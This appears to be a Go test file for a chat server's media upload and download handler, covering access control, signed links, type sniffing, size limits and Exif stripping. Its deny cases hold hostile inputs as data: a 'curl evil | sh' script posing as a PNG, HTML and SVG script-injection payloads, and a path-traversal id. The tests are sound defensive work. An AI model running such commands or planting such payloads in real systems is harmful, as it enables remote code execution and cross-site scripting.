package media_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/switchboard-chat/switchboard/internal/blob"
	"github.com/switchboard-chat/switchboard/internal/chat"
	"github.com/switchboard-chat/switchboard/internal/httpjson"
	"github.com/switchboard-chat/switchboard/internal/media"
	"github.com/switchboard-chat/switchboard/internal/media/mediatest"
	"github.com/switchboard-chat/switchboard/internal/sqlite"
)

// env is a media handler on a real SQLite store and a disk blob store,
// with three users: alice and bob share group g1, carol shares nothing.
type env struct {
	srv     *httptest.Server
	store   *sqlite.Store
	blobDir string
	now     atomic.Int64 // Unix seconds of the handler's clock
}

var tokens = map[string]chat.Session{
	"tok-alice": {UserID: "u1", Username: "alice"},
	"tok-bob":   {UserID: "u2", Username: "bob"},
	"tok-carol": {UserID: "u3", Username: "carol"},
}

func newEnv(tb testing.TB, tweak func(*media.Deps)) *env {
	tb.Helper()
	dir := tb.TempDir()
	st, err := sqlite.Open(context.Background(), filepath.Join(dir, "switchboard.db"))
	if err != nil {
		tb.Fatalf("sqlite.Open: %v", err)
	}
	tb.Cleanup(func() { st.Close() })
	mediatest.MustUser(tb, st, "u1", "alice")
	mediatest.MustUser(tb, st, "u2", "bob")
	mediatest.MustUser(tb, st, "u3", "carol")
	mediatest.MustGroup(tb, st, "g1", "u1", "u2")

	e := &env{store: st, blobDir: filepath.Join(dir, "media")}
	e.now.Store(1_800_000_000)
	blobs, err := blob.NewDisk(e.blobDir)
	if err != nil {
		tb.Fatal(err)
	}
	var ids atomic.Int64
	d := media.Deps{
		Blobs: blobs,
		Meta:  st,
		Authenticate: func(r *http.Request) (chat.Session, error) {
			if s, ok := tokens[httpjson.BearerToken(r)]; ok {
				return s, nil
			}
			return chat.Session{}, chat.Errorf(chat.EUnauthorized, "log in first")
		},
		Secret: []byte("test secret"),
		NewID:  func() string { return fmt.Sprintf("m%04d", ids.Add(1)) },
		Now:    func() time.Time { return time.Unix(e.now.Load(), 0) },
	}
	if tweak != nil {
		tweak(&d)
	}
	e.srv = httptest.NewServer(media.NewHandler(d))
	tb.Cleanup(e.srv.Close)
	return e
}

// uploaded is the body of a successful upload.
type uploaded struct {
	ID          string `json:"id"`
	ContentType string `json:"content_type"`
	Size        int64  `json:"size"`
	Width       int    `json:"width"`
	Height      int    `json:"height"`
	SHA256      string `json:"sha256"`
	URL         string `json:"url"`
	ThumbURL    string `json:"thumb_url"`
	ExpiresAt   int64  `json:"expires_at"`
}

type errorBody struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

// post uploads body and returns the status, the media on success and the
// error code otherwise.
func (e *env) post(tb testing.TB, token, contentType string, body io.Reader) (int, uploaded, string) {
	tb.Helper()
	req, err := http.NewRequest("POST", e.srv.URL+"/v1/media", body)
	if err != nil {
		tb.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := e.srv.Client().Do(req)
	if err != nil {
		tb.Fatalf("POST /v1/media: %v", err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if resp.StatusCode == http.StatusCreated {
		var out struct{ Media uploaded }
		if err := json.Unmarshal(raw, &out); err != nil {
			tb.Fatalf("upload answer %s: %v", raw, err)
		}
		return resp.StatusCode, out.Media, ""
	}
	var eb errorBody
	if err := json.Unmarshal(raw, &eb); err != nil {
		tb.Fatalf("error answer %d %s is not the API's error shape: %v", resp.StatusCode, raw, err)
	}
	return resp.StatusCode, uploaded{}, eb.Error.Code
}

// mustUpload uploads as alice and fails the test on anything but 201.
func (e *env) mustUpload(tb testing.TB, contentType string, b []byte) uploaded {
	tb.Helper()
	status, m, code := e.post(tb, "tok-alice", contentType, bytes.NewReader(b))
	if status != http.StatusCreated {
		tb.Fatalf("upload %s: status %d code %q", contentType, status, code)
	}
	return m
}

// get fetches path (relative to the server) with an optional token and
// headers, returning the response and its body.
func (e *env) get(tb testing.TB, path, token string, hdr ...string) (*http.Response, []byte) {
	tb.Helper()
	req, err := http.NewRequest("GET", e.srv.URL+path, nil)
	if err != nil {
		tb.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := e.srv.Client().Do(req)
	if err != nil {
		tb.Fatalf("GET %s: %v", path, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		tb.Fatalf("GET %s: read: %v", path, err)
	}
	return resp, b
}

func errCode(tb testing.TB, b []byte) string {
	tb.Helper()
	var eb errorBody
	if err := json.Unmarshal(b, &eb); err != nil {
		tb.Fatalf("%s is not the API's error shape: %v", b, err)
	}
	return eb.Error.Code
}

// blobFiles lists the files in the blob store's directory.
func (e *env) blobFiles(tb testing.TB) []string {
	tb.Helper()
	var files []string
	filepath.WalkDir(e.blobDir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files = append(files, p)
		}
		return nil
	})
	return files
}

func pngImage(tb testing.TB, w, h int) []byte {
	tb.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			copy(img.Pix[img.PixOffset(x, y):], []byte{uint8(x), uint8(y), 128, 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

const secretMarker = "GPS-48.8584N-2.2945E-SECRET"

// jpegWithExif makes a w x h JPEG that carries an Exif APP1 segment with
// the given orientation and a secret, and a comment with the secret.
func jpegWithExif(tb testing.TB, w, h, orientation int) []byte {
	tb.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			copy(img.Pix[img.PixOffset(x, y):], []byte{uint8(x), uint8(y), 64, 255})
		}
	}
	var enc bytes.Buffer
	if err := jpeg.Encode(&enc, img, nil); err != nil {
		tb.Fatal(err)
	}
	le := binary.LittleEndian
	tiff := []byte("II\x2a\x00")
	tiff = le.AppendUint32(tiff, 8)
	tiff = le.AppendUint16(tiff, 1)
	tiff = le.AppendUint16(tiff, 0x0112)
	tiff = le.AppendUint16(tiff, 3)
	tiff = le.AppendUint32(tiff, 1)
	tiff = le.AppendUint16(tiff, uint16(orientation))
	tiff = append(tiff, 0, 0, 0, 0, 0, 0)
	tiff = append(tiff, secretMarker...)
	payload := append([]byte("Exif\x00\x00"), tiff...)
	var out bytes.Buffer
	out.Write(enc.Bytes()[:2]) // SOI
	out.Write([]byte{0xFF, 0xE1})
	binary.Write(&out, binary.BigEndian, uint16(len(payload)+2))
	out.Write(payload)
	out.Write([]byte{0xFF, 0xFE})
	binary.Write(&out, binary.BigEndian, uint16(len(secretMarker)+2))
	out.WriteString(secretMarker)
	out.Write(enc.Bytes()[2:])
	return out.Bytes()
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestUploadAndFetch(t *testing.T) {
	e := newEnv(t, nil)
	img := pngImage(t, 800, 600)
	m := e.mustUpload(t, "image/png", img)
	if m.ContentType != "image/png" || m.Width != 800 || m.Height != 600 || m.Size != int64(len(img)) {
		t.Errorf("upload = %+v; want image/png 800x600 of %d bytes", m, len(img))
	}
	if m.URL == "" || m.ThumbURL == "" || m.ExpiresAt <= e.now.Load()*1000 {
		t.Errorf("upload = %+v; want signed url, thumb_url and a future expires_at", m)
	}
	resp, body := e.get(t, "/v1/media/"+m.ID, "tok-alice")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET: status %d %s", resp.StatusCode, body)
	}
	if !bytes.Equal(body, img) {
		t.Errorf("GET returned %d bytes that differ from the %d uploaded", len(body), len(img))
	}
	if got := sha(body); got != m.SHA256 {
		t.Errorf("sha256 = %s, want %s (of the bytes served)", m.SHA256, got)
	}
	wantHeaders := map[string]string{
		"Content-Type":           "image/png",
		"ETag":                   `"` + m.SHA256 + `"`,
		"Cache-Control":          "private, no-cache",
		"X-Content-Type-Options": "nosniff",
		"Content-Disposition":    `inline; filename="` + m.ID + `.png"`,
	}
	for k, v := range wantHeaders {
		if got := resp.Header.Get(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
	md, err := e.store.Media(context.Background(), m.ID)
	if err != nil || md.UploaderID != "u1" || md.SHA256 != m.SHA256 || md.Width != 800 {
		t.Errorf("stored record = %+v, %v", md, err)
	}

	// The signed URL works without a token and may be cached until it ends.
	resp, body = e.get(t, m.URL, "")
	if resp.StatusCode != http.StatusOK || !bytes.Equal(body, img) {
		t.Fatalf("GET signed url: status %d", resp.StatusCode)
	}
	cc := resp.Header.Get("Cache-Control")
	var maxAge int64
	if _, err := fmt.Sscanf(cc, "private, max-age=%d", &maxAge); err != nil {
		t.Fatalf("Cache-Control = %q, want private with max-age", cc)
	}
	if left := m.ExpiresAt/1000 - e.now.Load(); maxAge <= 0 || maxAge > left {
		t.Errorf("max-age = %d, want within (0, %d], the link's remaining life", maxAge, left)
	}
}

// sendInG1 stores a message from alice in g1 carrying the upload.
func (e *env) sendInG1(tb testing.TB, msgID, mediaID string) {
	tb.Helper()
	md, err := e.store.Media(context.Background(), mediaID)
	if err != nil {
		tb.Fatal(err)
	}
	mediatest.MustSendMedia(tb, e.store, msgID, "g1", "u1", md)
}

// TestAccess is invariant 6 over HTTP, with signed links.
func TestAccess(t *testing.T) {
	e := newEnv(t, nil)
	m := e.mustUpload(t, "image/png", pngImage(t, 20, 20))
	unsent := e.mustUpload(t, "image/png", pngImage(t, 20, 20))
	e.sendInG1(t, "msg1", m.ID)

	u, err := url.Parse(m.URL)
	if err != nil {
		t.Fatal(err)
	}
	q := u.Query()
	tampered := func(k, v string) string {
		q2 := url.Values{}
		for k, vs := range q {
			q2[k] = vs
		}
		q2.Set(k, v)
		return u.Path + "?" + q2.Encode()
	}
	sig := q.Get("sig")
	flipped := string(rune(sig[0]^1)) + sig[1:]
	expired := fmt.Sprint(e.now.Load() - 1)

	cases := []struct {
		name, path, token string
		status            int
		code              string
	}{
		{"uploader", "/v1/media/" + m.ID, "tok-alice", 200, ""},
		{"member where sent", "/v1/media/" + m.ID, "tok-bob", 200, ""},
		{"member, thumbnail", "/v1/media/" + m.ID + "?thumb=1", "tok-bob", 200, ""},
		{"non-member", "/v1/media/" + m.ID, "tok-carol", 403, chat.EForbidden},
		{"non-member, thumbnail", "/v1/media/" + m.ID + "?thumb=1", "tok-carol", 403, chat.EForbidden},
		{"member, never sent", "/v1/media/" + unsent.ID, "tok-bob", 403, chat.EForbidden},
		{"uploader, never sent", "/v1/media/" + unsent.ID, "tok-alice", 200, ""},
		{"logged out", "/v1/media/" + m.ID, "", 401, chat.EUnauthorized},
		{"bad token", "/v1/media/" + m.ID, "tok-mallory", 401, chat.EUnauthorized},
		{"unknown id", "/v1/media/nosuch", "tok-alice", 404, chat.ENotFound},
		{"bad id", "/v1/media/..%2fetc", "tok-alice", 404, chat.ENotFound},
		{"signed", m.URL, "", 200, ""},
		{"signed, as non-member", m.URL, "tok-carol", 200, ""},
		{"signed thumb", m.ThumbURL, "", 200, ""},
		{"tampered signature", tampered("sig", flipped), "", 403, chat.EForbidden},
		{"signature of another id", strings.Replace(m.URL, m.ID, unsent.ID, 1), "", 403, chat.EForbidden},
		{"original with thumb's signature", tampered("thumb", "1"), "", 403, chat.EForbidden},
		{"later expiry", tampered("exp", fmt.Sprint(m.ExpiresAt/1000+3600)), "", 403, chat.EForbidden},
		{"expired", tampered("exp", expired), "", 403, chat.EForbidden},
		{"no signature", tampered("sig", ""), "", 403, chat.EForbidden},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			resp, body := e.get(t, c.path, c.token)
			if resp.StatusCode != c.status {
				t.Fatalf("GET %s: status %d, want %d (%s)", c.path, resp.StatusCode, c.status, body)
			}
			if c.code != "" {
				if got := errCode(t, body); got != c.code {
					t.Errorf("code %q, want %q", got, c.code)
				}
				if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
					t.Errorf("error Cache-Control = %q, want no-store", cc)
				}
			}
		})
	}

	// A link works until its expiry, then not: move the clock past it.
	e.now.Store(m.ExpiresAt/1000 + 1)
	if resp, body := e.get(t, m.URL, ""); resp.StatusCode != 403 || errCode(t, body) != chat.EForbidden {
		t.Errorf("expired link: status %d %s, want 403 forbidden", resp.StatusCode, body)
	}

	// Leaving the group ends bob's access.
	if _, err := e.store.RemoveMember(context.Background(), "g1", "u2"); err != nil {
		t.Fatal(err)
	}
	if resp, _ := e.get(t, "/v1/media/"+m.ID, "tok-bob"); resp.StatusCode != 403 {
		t.Errorf("after leaving: status %d, want 403", resp.StatusCode)
	}
}

func TestSignEndpoint(t *testing.T) {
	e := newEnv(t, nil)
	m := e.mustUpload(t, "image/png", pngImage(t, 20, 20))
	e.sendInG1(t, "msg1", m.ID)
	for _, thumb := range []string{"", "&thumb=1"} {
		resp, body := e.get(t, "/v1/media/"+m.ID+"?sign=1"+thumb, "tok-bob")
		if resp.StatusCode != 200 {
			t.Fatalf("sign: status %d %s", resp.StatusCode, body)
		}
		var out struct {
			URL       string `json:"url"`
			ExpiresAt int64  `json:"expires_at"`
		}
		if err := json.Unmarshal(body, &out); err != nil || out.URL == "" || out.ExpiresAt <= e.now.Load()*1000 {
			t.Fatalf("sign answer %s: %v", body, err)
		}
		if resp, _ := e.get(t, out.URL, ""); resp.StatusCode != 200 {
			t.Errorf("GET %s: status %d", out.URL, resp.StatusCode)
		}
	}
	if resp, _ := e.get(t, "/v1/media/"+m.ID+"?sign=1", "tok-carol"); resp.StatusCode != 403 {
		t.Errorf("sign as non-member: status %d, want 403", resp.StatusCode)
	}
	if resp, _ := e.get(t, "/v1/media/"+m.ID+"?sign=1", ""); resp.StatusCode != 401 {
		t.Errorf("sign logged out: status %d, want 401", resp.StatusCode)
	}
}

func TestUploadAuth(t *testing.T) {
	e := newEnv(t, nil)
	status, _, code := e.post(t, "", "image/png", bytes.NewReader(pngImage(t, 4, 4)))
	if status != 401 || code != chat.EUnauthorized {
		t.Errorf("upload logged out: %d %q, want 401 unauthorized", status, code)
	}
	if files := e.blobFiles(t); len(files) != 0 {
		t.Errorf("stored %v", files)
	}
}

// TestTypes is the allow/deny matrix: types are judged by their bytes.
func TestTypes(t *testing.T) {
	e := newEnv(t, nil)
	png4 := pngImage(t, 4, 4)
	mp3 := append([]byte{0xFF, 0xFB, 0x90, 0x64}, make([]byte, 400)...)
	id3 := append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), make([]byte, 100)...)
	wav := append([]byte("RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00"), make([]byte, 100)...)
	ogg := append([]byte("OggS\x00\x02"), append(make([]byte, 22), "\x13OpusHead"...)...)
	mp4 := append([]byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), make([]byte, 100)...)
	webm := append([]byte("\x1a\x45\xdf\xa3"), make([]byte, 100)...)
	gif := []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
	cases := []struct {
		name, declared string
		body           []byte
		status         int
		want           string // content type stored, or error code
	}{
		{"png", "image/png", png4, 201, "image/png"},
		{"png undeclared", "", png4, 201, "image/png"},
		{"png as octet-stream", "application/octet-stream", png4, 201, "image/png"},
		{"gif", "image/gif", gif, 201, "image/gif"},
		{"mp3 frame", "audio/mpeg", mp3, 201, "audio/mpeg"},
		{"mp3 with id3", "audio/mp3", id3, 201, "audio/mpeg"},
		{"wav", "audio/wav", wav, 201, "audio/wav"},
		{"ogg opus", "audio/ogg", ogg, 201, "audio/ogg"},
		{"mp4", "video/mp4", mp4, 201, "video/mp4"},
		{"webm", "video/webm", webm, 201, "video/webm"},
		{"pdf", "application/pdf", []byte("%PDF-1.7\n1 0 obj\n"), 201, "application/pdf"},
		{"text", "text/plain", []byte("hello, world\n"), 201, "text/plain; charset=utf-8"},
		{"markdown as text", "text/markdown", []byte("# notes\n"), 201, "text/plain; charset=utf-8"},

		{"script named png", "image/png", []byte("#!/bin/sh\ncurl evil | sh\n"), 400, chat.EBadRequest},
		{"html", "text/html", []byte("<!DOCTYPE html><script>alert(1)</script>"), 400, chat.EBadRequest},
		{"html as text", "text/plain", []byte("<html><script>alert(1)</script>"), 400, chat.EBadRequest},
		{"svg", "image/svg+xml", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), 400, chat.EBadRequest},
		{"elf", "application/octet-stream", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 100)...), 400, chat.EBadRequest},
		{"zip", "application/zip", []byte("PK\x03\x04\x14\x00\x00\x00"), 400, chat.EBadRequest},
		{"png declared jpeg", "image/jpeg", png4, 400, chat.EBadRequest},
		{"pdf declared png", "image/png", []byte("%PDF-1.7\n"), 400, chat.EBadRequest},
		{"png magic, garbage", "image/png", append(append([]byte{}, png4[:20]...), bytes.Repeat([]byte{7}, 300)...), 400, chat.EBadRequest},
		{"jpeg magic, garbage", "image/jpeg", append([]byte{0xFF, 0xD8, 0xFF, 0xDB, 0x00, 0x04, 1, 2}, bytes.Repeat([]byte{9}, 300)...), 400, chat.EBadRequest},
		{"empty", "image/png", nil, 400, chat.EBadRequest},
		{"malformed content type", "image/", png4, 400, chat.EBadRequest},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.blobFiles(t))
			status, m, code := e.post(t, "tok-alice", c.declared, bytes.NewReader(c.body))
			if status != c.status {
				t.Fatalf("status %d (code %q), want %d", status, code, c.status)
			}
			if status != 201 {
				if code != c.want {
					t.Errorf("code %q, want %q", code, c.want)
				}
				if after := len(e.blobFiles(t)); after != before {
					t.Errorf("a refused upload left %d files", after-before)
				}
				return
			}
			if m.ContentType != c.want {
				t.Errorf("content_type %q, want %q", m.ContentType, c.want)
			}
			resp, body := e.get(t, "/v1/media/"+m.ID, "tok-alice")
			if got := resp.Header.Get("Content-Type"); got != c.want {
				t.Errorf("served as %q, want %q", got, c.want)
			}
			if strings.HasPrefix(c.want, "text/") || c.want == "application/pdf" {
				if d := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") {
					t.Errorf("Content-Disposition %q, want attachment", d)
				}
			}
			if c.want != "image/png" && !bytes.Equal(body, c.body) {
				t.Errorf("served bytes differ from the upload")
			}
		})
	}
}

func TestTooLarge(t *testing.T) {
	e := newEnv(t, func(d *media.Deps) { d.MaxSize = 1000 })
	text := bytes.Repeat([]byte("a"), 1000)
	if status, _, code := e.post(t, "tok-alice", "text/plain", bytes.NewReader(text)); status != 201 {
		t.Fatalf("upload of exactly the limit: %d %q", status, code)
	}
	files := len(e.blobFiles(t))
	over := append(text, 'b')
	// With a Content-Length, refused before reading.
	status, _, code := e.post(t, "tok-alice", "text/plain", bytes.NewReader(over))
	if status != 413 || code != chat.ETooLarge {
		t.Errorf("over the limit: %d %q, want 413 too_large", status, code)
	}
	// Without one (chunked), refused while streaming.
	status, _, code = e.post(t, "tok-alice", "text/plain", io.MultiReader(bytes.NewReader(over), strings.NewReader("more")))
	if status != 413 || code != chat.ETooLarge {
		t.Errorf("chunked over the limit: %d %q, want 413 too_large", status, code)
	}
	noise := image.NewGray(image.Rect(0, 0, 100, 100))
	rand.Read(noise.Pix)
	var big bytes.Buffer
	if err := png.Encode(&big, noise); err != nil {
		t.Fatal(err)
	}
	status, _, code = e.post(t, "tok-alice", "image/png", io.MultiReader(&big))
	if status != 413 || code != chat.ETooLarge {
		t.Errorf("chunked image over the limit: %d %q, want 413 too_large", status, code)
	}
	if got := len(e.blobFiles(t)); got != files {
		t.Errorf("refused uploads left %d files", got-files)
	}
}

func TestTooManyPixels(t *testing.T) {
	e := newEnv(t, func(d *media.Deps) { d.MaxPixels = 100 * 100 })
	status, _, code := e.post(t, "tok-alice", "image/png", bytes.NewReader(pngImage(t, 101, 100)))
	if status != 413 || code != chat.ETooLarge {
		t.Errorf("image over the pixel limit: %d %q, want 413 too_large", status, code)
	}
	if files := e.blobFiles(t); len(files) != 0 {
		t.Errorf("a refused image left %v", files)
	}
}

// TestTruncatedUpload sends fewer bytes than its Content-Length and closes:
// nothing is stored.
func TestTruncatedUpload(t *testing.T) {
	e := newEnv(t, nil)
	img := pngImage(t, 300, 300)
	conn, err := net.Dial("tcp", e.srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /v1/media HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer tok-alice\r\n"+
		"Content-Type: image/png\r\nContent-Length: %d\r\n\r\n", len(img))
	conn.Write(img[:len(img)/2])
	conn.(*net.TCPConn).CloseWrite()
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("read response: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != 400 {
		t.Errorf("status %d, want 400", resp.StatusCode)
	}
	if files := e.blobFiles(t); len(files) != 0 {
		t.Errorf("a cut-off upload left %v", files)
	}
}

func TestRange(t *testing.T) {
	e := newEnv(t, nil)
	data := make([]byte, 5000)
	for i := range data {
		data[i] = 'a' + byte(i%26)
	}
	m := e.mustUpload(t, "text/plain", data)
	cases := []struct {
		rng        string
		status     int
		want       []byte
		contentRng string
	}{
		{"bytes=10-19", 206, data[10:20], "bytes 10-19/5000"},
		{"bytes=4990-", 206, data[4990:], "bytes 4990-4999/5000"},
		{"bytes=-5", 206, data[4995:], "bytes 4995-4999/5000"},
		{"bytes=6000-7000", 416, nil, "bytes */5000"},
	}
	for _, c := range cases {
		for _, path := range []string{"/v1/media/" + m.ID, m.URL} {
			token := "tok-alice"
			if path == m.URL {
				token = ""
			}
			resp, body := e.get(t, path, token, "Range", c.rng)
			if resp.StatusCode != c.status {
				t.Fatalf("Range %s on %s: status %d, want %d", c.rng, path, resp.StatusCode, c.status)
			}
			if got := resp.Header.Get("Content-Range"); got != c.contentRng {
				t.Errorf("Range %s: Content-Range %q, want %q", c.rng, got, c.contentRng)
			}
			if c.want != nil && !bytes.Equal(body, c.want) {
				t.Errorf("Range %s: body %q, want %q", c.rng, body, c.want)
			}
		}
	}
	// A cache revalidating with the ETag gets 304 and no body.
	resp, body := e.get(t, "/v1/media/"+m.ID, "tok-alice", "If-None-Match", `"`+m.SHA256+`"`)
	if resp.StatusCode != 304 || len(body) != 0 {
		t.Errorf("If-None-Match: status %d with %d bytes, want 304 and none", resp.StatusCode, len(body))
	}
}

// decodeServed fetches path as alice and decodes the image.
func (e *env) decodeServed(tb testing.TB, path string) (image.Image, string, []byte) {
	tb.Helper()
	resp, body := e.get(tb, path, "tok-alice")
	if resp.StatusCode != 200 {
		tb.Fatalf("GET %s: status %d %s", path, resp.StatusCode, body)
	}
	var img image.Image
	var err error
	switch ct := resp.Header.Get("Content-Type"); ct {
	case "image/png":
		img, err = png.Decode(bytes.NewReader(body))
	case "image/jpeg":
		img, err = jpeg.Decode(bytes.NewReader(body))
	default:
		tb.Fatalf("GET %s: Content-Type %q", path, ct)
	}
	if err != nil {
		tb.Fatalf("decode %s: %v", path, err)
	}
	return img, resp.Header.Get("Content-Type"), body
}

func TestThumbnail(t *testing.T) {
	e := newEnv(t, nil)
	cases := []struct {
		name      string
		ctype     string
		body      []byte
		w, h      int // reported (as displayed)
		tw, th    int
		thumbType string
	}{
		{"landscape png", "image/png", pngImage(t, 800, 600), 800, 600, 320, 240, "image/png"},
		{"portrait png", "image/png", pngImage(t, 300, 900), 300, 900, 106, 320, "image/png"},
		{"small png kept as is", "image/png", pngImage(t, 100, 50), 100, 50, 100, 50, "image/png"},
		{"jpeg", "image/jpeg", jpegWithExif(t, 640, 480, 1), 640, 480, 320, 240, "image/jpeg"},
		{"jpeg turned by exif", "image/jpeg", jpegWithExif(t, 800, 600, 6), 600, 800, 240, 320, "image/jpeg"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := e.mustUpload(t, c.ctype, c.body)
			if m.Width != c.w || m.Height != c.h {
				t.Errorf("reported %dx%d, want %dx%d", m.Width, m.Height, c.w, c.h)
			}
			img, ct, _ := e.decodeServed(t, "/v1/media/"+m.ID+"?thumb=1")
			if b := img.Bounds(); b.Dx() != c.tw || b.Dy() != c.th {
				t.Errorf("thumbnail %dx%d, want %dx%d", b.Dx(), b.Dy(), c.tw, c.th)
			}
			if ct != c.thumbType {
				t.Errorf("thumbnail type %q, want %q", ct, c.thumbType)
			}
		})
	}
	m := e.mustUpload(t, "text/plain", []byte("no picture"))
	if resp, body := e.get(t, "/v1/media/"+m.ID+"?thumb=1", "tok-alice"); resp.StatusCode != 404 || errCode(t, body) != chat.ENotFound {
		t.Errorf("thumbnail of text: status %d %s, want 404", resp.StatusCode, body)
	}
}

// TestExifStripped uploads a JPEG whose Exif and comment hold a secret:
// neither the original nor the thumbnail served carries it, the picture
// still decodes, and only the orientation survives.
func TestExifStripped(t *testing.T) {
	e := newEnv(t, nil)
	src := jpegWithExif(t, 64, 48, 6)
	if !bytes.Contains(src, []byte(secretMarker)) {
		t.Fatal("test image lacks its secret")
	}
	m := e.mustUpload(t, "image/jpeg", src)
	img, _, body := e.decodeServed(t, "/v1/media/"+m.ID)
	if bytes.Contains(body, []byte(secretMarker)) {
		t.Errorf("the served original still carries the Exif secret")
	}
	if b := img.Bounds(); b.Dx() != 64 || b.Dy() != 48 {
		t.Errorf("served image is %dx%d, want 64x48", b.Dx(), b.Dy())
	}
	if m.Size != int64(len(body)) || m.SHA256 != sha(body) {
		t.Errorf("size/sha256 = %d/%s, want those of the served bytes %d/%s", m.Size, m.SHA256, len(body), sha(body))
	}
	if !bytes.Contains(body, []byte("Exif\x00\x00MM")) || bytes.Count(body, []byte("Exif\x00\x00")) != 1 {
		t.Errorf("the orientation's minimal Exif is missing")
	}
	_, _, thumb := e.decodeServed(t, "/v1/media/"+m.ID+"?thumb=1")
	if bytes.Contains(thumb, []byte(secretMarker)) || bytes.Contains(thumb, []byte("Exif")) {
		t.Errorf("the thumbnail carries Exif")
	}

	// A picture appended after the end marker (as phones do, announced by an
	// MPF segment) goes, with its Exif.
	first := jpegWithExif(t, 32, 32, 1)
	mpf := []byte{0xFF, 0xE2, 0x00, 0x0A, 'M', 'P', 'F', 0x00, 1, 2, 3, 4}
	var multi bytes.Buffer
	multi.Write(first[:2])
	multi.Write(mpf)
	multi.Write(first[2:])
	multi.Write(jpegWithExif(t, 16, 16, 3))
	m = e.mustUpload(t, "image/jpeg", multi.Bytes())
	_, _, body = e.decodeServed(t, "/v1/media/"+m.ID)
	if bytes.Contains(body, []byte(secretMarker)) || bytes.Contains(body, []byte("MPF\x00")) {
		t.Errorf("the served JPEG still carries the appended picture or its MPF index")
	}
	if !bytes.HasSuffix(body, []byte{0xFF, 0xD9}) || bytes.Count(body, []byte{0xFF, 0xD8}) != 1 {
		t.Errorf("the served JPEG does not end at its first picture's end marker")
	}

	// PNG text chunks go too.
	p := pngImage(t, 8, 8)
	chunk := []byte("tEXt" + "Comment\x00" + secretMarker)
	var withText bytes.Buffer
	withText.Write(p[:33]) // signature and IHDR
	binary.Write(&withText, binary.BigEndian, uint32(len(chunk)-4))
	withText.Write(chunk)
	withText.Write([]byte{0, 0, 0, 0}) // CRC, not checked by the stripper
	withText.Write(p[33:])
	m = e.mustUpload(t, "image/png", withText.Bytes())
	if _, _, body := e.decodeServed(t, "/v1/media/"+m.ID); bytes.Contains(body, []byte(secretMarker)) {
		t.Errorf("the served PNG still carries its text chunk")
	}
}

func TestRoutes(t *testing.T) {
	e := newEnv(t, nil)
	for _, c := range []struct{ method, path string }{
		{"DELETE", "/v1/media/m0001"},
		{"GET", "/v1/media"},
		{"PUT", "/v1/media"},
	} {
		req, _ := http.NewRequest(c.method, e.srv.URL+c.path, nil)
		req.Header.Set("Authorization", "Bearer tok-alice")
		resp, err := e.srv.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 404 || errCode(t, b) != chat.ENotFound {
			t.Errorf("%s %s: %d %s, want 404 not_found", c.method, c.path, resp.StatusCode, b)
		}
	}
}
